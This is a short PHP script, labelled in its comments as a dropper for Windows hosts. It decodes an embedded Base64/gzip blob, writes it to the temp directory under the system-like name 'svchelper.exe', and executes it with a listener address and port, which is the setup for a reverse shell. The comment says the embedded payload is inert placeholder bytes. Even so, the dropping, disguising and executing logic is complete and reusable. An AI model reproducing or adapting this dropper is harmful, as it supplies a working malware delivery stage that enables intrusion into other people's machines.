<?php
// A dropper for a Windows host: a program kept Base64/gzip-encoded in the script is written to
// the temporary directory under a program's name and started with the listener's address.
// (Inert sample: the "program" is a few placeholder bytes.)
@set_time_limit(0);
$lhost = '198.51.100.7';
$lport = '4444';
$blob = 'S0lNTVVOUmQBAA==';
$bin = gzinflate(base64_decode($blob));
$dir = getenv('TEMP') ?: 'C:\\Windows\\Temp';
$target = $dir . '\\svchelper.exe';
$h = fopen($target, 'wb');
fwrite($h, $bin);
fclose($h);
echo shell_exec('"' . $target . '" ' . $lhost . ' ' . $lport);
